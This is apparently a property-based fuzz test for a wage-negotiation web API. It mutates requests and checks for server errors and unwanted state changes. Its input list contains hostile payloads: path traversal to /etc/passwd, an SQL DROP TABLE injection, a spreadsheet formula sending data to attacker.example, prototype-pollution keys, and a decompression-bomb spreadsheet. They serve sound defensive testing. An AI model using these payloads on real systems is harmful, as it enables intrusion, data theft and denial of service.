import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { OpenAPIObject } from '@nestjs/swagger';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { PEOPLE } from '../../src/seed/demo-reference.js';
import { openApiDocument } from '../../src/app.factory.js';
import { XLSX_TYPE, CSV_TYPE } from '../../src/piece-rates/catalog-spreadsheet.js';
import { httpClient } from '../support/http.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

// Malformed requests generated from the routes and DTOs the OpenAPI description is built from (issue 8):
// every operation and every event type, as an authenticated caller so requests reach validation.
// Asserts no 5xx, and that a refused request changes nothing. A new route or event is fuzzed without
// being listed here. Size: FUZZ_RUNS requests in all (default 1,500; the soak run sets 10,000+);
// FUZZ_SEED replays a run.
const TOTAL_RUNS = Number(process.env.FUZZ_RUNS ?? 1500);
const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);

type Schema = {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  example?: unknown;
  minimum?: number;
  items?: Schema;
  properties?: Record<string, Schema>;
  allOf?: Schema[];
  oneOf?: Schema[];
  discriminator?: { propertyName: string; mapping: Record<string, string> };
};
type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

interface Target {
  name: string;
  method: 'get' | 'post' | 'put' | 'patch' | 'delete';
  path: string; // OpenAPI template, e.g. /negotiations/{id}/events
  pathParams: string[];
  queryParams: string[];
  body: Json | undefined; // a plausible body to mutate; undefined: the route takes none
  takesSpreadsheet: boolean;
}

let t: TestApp;
let api: ReturnType<typeof httpClient>;
let targets: Target[];
let values: Record<string, string>; // plausible path-parameter values, by name
let bomb: Buffer;
let brokenXlsx: Buffer;

// Who sends: an administrator for the directory-wide routes, the worker union chair for a round.
const callerFor = (target: Target) =>
  /^\/api\/(calendar|catalogs|people)/.test(target.path) ? 'admin' : 'chen.chair';

beforeAll(async () => {
  t = await startTestApp();
  api = httpClient(t);
  const liveId = t.demo.rounds['2026'].id;
  const offers = await api.get('chen.chair', `/api/negotiations/${liveId}/offers`);
  values = {
    id: liveId,
    surveyId: t.demo.surveyId,
    industry: 'wool-knitwear',
    version: '1',
    offerId: offers.body.items[0]?.id ?? 's1-1',
    day: '2026-10-09',
    personId: PEOPLE['zhou.w5'].id,
  };
  // The served description: every event type is in it as its own schema, nothing to register here.
  targets = targetsOf(openApiDocument(t.app));

  // A spreadsheet whose one cell inflates to FUZZ_BOMB_MB (default 8) from a few KB: the bounded
  // reader must refuse it or read it without harm.
  const book = new ExcelJS.Workbook();
  book.addWorksheet('工价表').addRow(['x'.repeat(Number(process.env.FUZZ_BOMB_MB ?? 8) << 20)]);
  bomb = Buffer.from(await book.xlsx.writeBuffer());
  const example = readFileSync('docs/examples/wool-knitwear-offer.xlsx');
  brokenXlsx = example.subarray(0, Math.floor(example.length / 2));
}, 120_000);
// A bomb still being read can hold the server for a while after the last request.
afterAll(() => t?.close(), 60_000);

function targetsOf(doc: OpenAPIObject): Target[] {
  const resolve = (s: Schema | undefined): Schema | undefined =>
    s?.$ref ? (doc.components!.schemas![s.$ref.split('/').pop()!] as Schema) : s;
  const plausible = (s0: Schema | undefined, depth = 0): Json => {
    const s = resolve(s0?.allOf?.[0] ?? s0?.oneOf?.[0] ?? s0);
    if (!s || depth > 6) return 'x';
    if (s.example !== undefined) return s.example as Json;
    if (s.enum) return s.enum[0] as Json;
    if (s.properties)
      return Object.fromEntries(
        Object.entries(s.properties).map(([k, v]) => [k, plausible(v, depth + 1)]),
      );
    switch (s.type) {
      case 'integer':
      case 'number':
        return s.minimum ?? 1;
      case 'boolean':
        return true;
      case 'array':
        return [plausible(s.items, depth + 1)];
      case 'object':
        return {};
      default:
        return s.format === 'uuid' ? randomUUID() : 'x';
    }
  };
  const out: Target[] = [];
  for (const [path, item] of Object.entries(doc.paths)) {
    for (const method of ['get', 'post', 'put', 'patch', 'delete'] as const) {
      const op = item[method];
      if (!op || path.startsWith('/api/docs')) continue;
      const params = (op.parameters ?? []) as { in: string; name: string }[];
      const schema = (
        op.requestBody as { content?: Record<string, { schema?: Schema }> } | undefined
      )?.content?.['application/json']?.schema;
      const base: Target = {
        name: `${method.toUpperCase()} ${path}`,
        method,
        path,
        pathParams: params.filter((p) => p.in === 'path').map((p) => p.name),
        queryParams: params.filter((p) => p.in === 'query').map((p) => p.name),
        body: schema ? plausible(schema) : undefined,
        // A write that declares no JSON body takes its file as the raw body.
        takesSpreadsheet: !schema && method === 'post' && /import|offers$/.test(path),
      };
      out.push(base);
      // A discriminated body (the events route): one target per type, from that type's schema.
      for (const [type, $ref] of Object.entries(schema?.discriminator?.mapping ?? {}))
        out.push({ ...base, name: `${base.name} ${type}`, body: plausible({ $ref }) });
    }
  }
  return out;
}

// Values that broke something once, or could: bad text, out-of-range numbers, wrong types, bulk.
const nasty: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom<Json>(
    'a\u0000b',
    '\u0000',
    'a\ud800b',
    '\udc00',
    '',
    ' ',
    '1e300',
    '2147483648',
    '-1',
    '../../etc/passwd',
    "'; DROP TABLE negotiation; --",
    '=HYPERLINK("http://attacker.example/?x="&A2,"x")',
    2147483648,
    -2147483649,
    2 ** 53 + 2,
    1e300,
    -1,
    0,
    1.5,
    true,
    null,
    [],
    {},
    [null],
    { constructor: { prototype: {} } },
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer().map((n) => n * 65537),
  fc.double({ noNaN: true }),
  fc.constantFrom(1_000, 100_000).map((n) => 'x'.repeat(n)),
  fc.integer({ min: 14, max: 200 }).map((d) => nested(d)),
  fc.array(fc.constant<Json>('x'), { minLength: 6000, maxLength: 6000 }),
  fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>,
);

function nested(depth: number): Json {
  let v: Json = 1;
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
}

// Every path into a value, so a mutation can reach a field inside an event's payload or a line.
function pathsOf(v: Json, prefix: (string | number)[] = []): (string | number)[][] {
  if (v === null || typeof v !== 'object') return [prefix];
  const keys: (string | number)[] = Array.isArray(v) ? v.map((_, i) => i) : Object.keys(v);
  return [prefix, ...keys.flatMap((k) => pathsOf((v as Record<string, Json>)[k], [...prefix, k]))];
}

function mutate(
  body: Json,
  at: (string | number)[],
  kind: 'replace' | 'drop' | 'extra',
  value: Json,
  key: string,
) {
  const copy = structuredClone(body);
  if (at.length === 0) return kind === 'replace' ? value : copy;
  const parent = at.slice(0, -1).reduce<Json>((o, k) => (o as Record<string, Json>)[k], copy) as
    Record<string, Json> | Json[];
  const last = at[at.length - 1];
  if (kind === 'replace') (parent as Record<string, Json>)[last] = value;
  else if (kind === 'drop') {
    if (Array.isArray(parent)) parent.splice(Number(last), 1);
    else delete parent[last];
  } else {
    const target = (parent as Record<string, Json>)[last];
    if (target && typeof target === 'object' && !Array.isArray(target)) target[key] = value;
    else if (!Array.isArray(parent)) parent[key] = value;
  }
  return copy;
}

// encodeURIComponent throws on a lone surrogate; an attacker sends its (invalid) UTF-8 bytes anyway.
const pathSegment = (s: string) =>
  s
    .split(/([\ud800-\udfff])/)
    .map((part) => {
      if (part.length !== 1 || part.charCodeAt(0) < 0xd800 || part.charCodeAt(0) > 0xdfff)
        return encodeURIComponent(part);
      const cu = part.charCodeAt(0);
      return [0xed, 0xa0 | ((cu >> 6) & 0x1f), 0x80 | (cu & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    })
    .join('');

const asText = (v: Json) => (typeof v === 'string' ? v : JSON.stringify(v));

interface Attempt {
  path: string;
  query: Record<string, string | string[]>;
  headers: Record<string, string>;
  body: Buffer | string | undefined;
  note: string;
}

function attempts(target: Target): fc.Arbitrary<Attempt> {
  const goodPath = (over: Record<string, string> = {}) =>
    target.path.replace(/\{(\w+)\}/g, (_, n: string) => pathSegment(over[n] ?? values[n] ?? 'x'));
  const json = (body: Json | undefined) => (body === undefined ? undefined : JSON.stringify(body));
  const plain = (note: string, over: Partial<Attempt> = {}): Attempt => {
    const a: Attempt = {
      path: goodPath(),
      query: {},
      headers: target.body !== undefined ? { 'content-type': 'application/json' } : {},
      body: json(target.body),
      note,
      ...over,
    };
    // A counterexample is reported by what was tried, not by a megabyte of its body.
    return Object.assign(a, {
      [fc.toStringMethod]: () =>
        `${target.name} → ${a.path.slice(0, 200)} (${note.slice(0, 200)}); body ${String(a.body ?? '').slice(0, 300)}`,
    });
  };
  const arbs: fc.Arbitrary<Attempt>[] = [];
  if (target.body !== undefined) {
    const paths = pathsOf(target.body);
    arbs.push(
      fc
        .record({
          at: fc.constantFrom(...paths),
          kind: fc.constantFrom('replace', 'drop', 'extra' as const),
          value: nasty,
          key: fc.constantFrom('constructor', 'prototype', 'extra', 'a\u0000', 'isAdmin'),
        })
        .map(({ at, kind, value, key }) =>
          plain(`${kind} ${at.join('.') || '(body)'} ${kind === 'extra' ? key : ''}`, {
            body: json(mutate(target.body!, at, kind, value, key)),
          }),
        ),
    );
  }
  // The whole body: not JSON, wrong type, wrong or missing content type, nesting the parser allows.
  // (Reads take no body; a client that sends one anyway may see the connection end before it is sent.)
  if (target.method !== 'get')
    arbs.push(
      fc
        .constantFrom(
          ['application/json', ''],
          ['application/json', 'null'],
          ['application/json', '[]'],
          ['application/json', '"x"'],
          ['application/json', '{"a":'],
          ['application/json', '{"__proto__":{"x":1}}'],
          ['application/json', '['.repeat(50_000) + ']'.repeat(50_000)],
          ['application/json', `{"a":"${'\\ud800'.repeat(10)}"}`],
          ['text/plain', 'hello'],
          ['application/x-www-form-urlencoded', 'a=1&b=%00'],
          ['multipart/form-data; boundary=x', '--x\r\n\r\n--x--'],
          ['', '{}'],
          [XLSX_TYPE, 'not a zip'],
          [CSV_TYPE, '\u0000,\u0000\n'],
        )
        .map(([type, body]) =>
          plain(`body ${type || '(no type)'} ${body.slice(0, 30)}`, {
            headers: type ? { 'content-type': type } : {},
            body,
          }),
        ),
    );
  // A query parameter no route declares, on every route.
  arbs.push(
    nasty.map((value) => plain('undeclared query', { query: { unexpected: asText(value) } })),
  );
  if (target.queryParams.length > 0)
    arbs.push(
      fc
        .record({
          name: fc.constantFrom(...target.queryParams),
          value: nasty,
          twice: fc.boolean(),
        })
        .map(({ name, value, twice }) =>
          plain(`query ${name}`, {
            query: { [name]: twice ? [asText(value), 'x'] : asText(value) },
          }),
        ),
    );
  if (target.pathParams.length > 0)
    arbs.push(
      fc
        .record({ name: fc.constantFrom(...target.pathParams), value: nasty })
        .map(({ name, value }) =>
          plain(`path ${name}`, { path: goodPath({ [name]: asText(value).slice(0, 2000) }) }),
        ),
    );
  if (target.method !== 'get')
    arbs.push(
      fc.constantFrom('', ' ', 'é'.repeat(300), 'x'.repeat(10_000), '\t').map((key) =>
        plain(`idempotency-key ${key.slice(0, 10)}`, {
          headers: { ...plain('').headers, 'idempotency-key': key },
        }),
      ),
    );
  if (target.takesSpreadsheet)
    arbs.push(
      fc
        .record({
          file: fc.constantFrom('bomb', 'broken', 'random', 'oversized', 'empty'),
          type: fc.constantFrom(XLSX_TYPE, CSV_TYPE),
          bytes: fc.uint8Array({ maxLength: 2000 }),
        })
        .map(({ file, type, bytes }) =>
          plain(`spreadsheet ${file} as ${type === XLSX_TYPE ? 'xlsx' : 'csv'}`, {
            query: { expectedRevision: '1' },
            headers: { 'content-type': type },
            body:
              file === 'bomb'
                ? bomb
                : file === 'broken'
                  ? brokenXlsx
                  : file === 'random'
                    ? Buffer.from(bytes)
                    : file === 'oversized'
                      ? Buffer.alloc(1_048_577, 0x41)
                      : Buffer.alloc(0),
          }),
        ),
    );
  return fc.oneof(...arbs);
}

// What a refused request must leave as it was: every round's revision and head, and the row counts of
// the tables a request can write (idempotency records aside: a refusal may be remembered for replay).
async function fingerprint(): Promise<string> {
  const [row] = await t.app.get(DataSource).query(
    `SELECT (SELECT string_agg(id || ':' || revision || ':' || head_hash, ',' ORDER BY id) FROM negotiation) AS rounds,
            (SELECT count(*) FROM negotiation_event) AS events,
            (SELECT count(*) FROM caucus_note) AS notes,
            (SELECT count(*) FROM process_catalog) AS catalogs,
            (SELECT count(*) FROM calendar_day) AS days,
            (SELECT count(*) FROM rate_survey) AS surveys,
            (SELECT count(*) FROM survey_tally) AS tallies,
            (SELECT count(*) FROM survey_participant) AS participants,
            (SELECT count(*) FROM rate_table) AS tables,
            (SELECT count(*) FROM account) AS accounts,
            (SELECT count(*) || ':' || coalesce(max(updated_at)::text, '') FROM person) AS people,
            (SELECT count(*) FROM administration_log_entry) AS "logEntries"`,
  );
  return JSON.stringify(row);
}

async function send(target: Target, a: Attempt) {
  const agent = request(t.app.getHttpServer());
  let req = agent[target.method](a.path).set(
    'authorization',
    `Bearer ${await api.token(callerFor(target))}`,
  );
  if (target.method !== 'get') req = req.set('idempotency-key', randomUUID());
  for (const [k, v] of Object.entries(a.headers)) req = req.set(k, v);
  req = req.query(a.query);
  return a.body === undefined ? req : req.send(a.body);
}

describe('generated malformed requests', () => {
  it('covers every route and every event type the OpenAPI description knows', () => {
    const names = targets.map((x) => x.name);
    expect(names).toEqual(
      expect.arrayContaining([
        'POST /api/auth/login',
        'POST /api/negotiations/{id}/events offer.tabled',
        'POST /api/negotiations/{id}/offers',
        'POST /api/catalogs/{industry}/import',
        'PUT /api/calendar/days/{day}',
        'GET /api/negotiations/{id}/history',
        'PATCH /api/people/{personId}',
        'POST /api/people/{personId}/erasure',
      ]),
    );
    expect(targets.filter((x) => x.takesSpreadsheet).map((x) => x.path)).toEqual(
      expect.arrayContaining(['/api/negotiations/{id}/offers', '/api/catalogs/{industry}/import']),
    );
  });

  it(`never answers 5xx, and a refused request changes nothing (${TOTAL_RUNS} requests)`, async () => {
    const perTarget = Math.max(1, Math.ceil(TOTAL_RUNS / targets.length));
    let before = await fingerprint();
    for (const target of targets) {
      await fc.assert(
        fc.asyncProperty(attempts(target), async (a) => {
          const res = await send(target, a);
          const seen = { target: target.name, note: a.note, status: res.status, body: res.body };
          expect({ ...seen, serverError: res.status >= 500 }).toMatchObject({ serverError: false });
          const after = await fingerprint();
          if (res.status >= 400)
            expect({ ...seen, state: after }).toEqual({ ...seen, state: before });
          before = after;
        }),
        { numRuns: perTarget, seed: SEED, endOnFailure: true },
      );
    }
  }, 600_000);
});
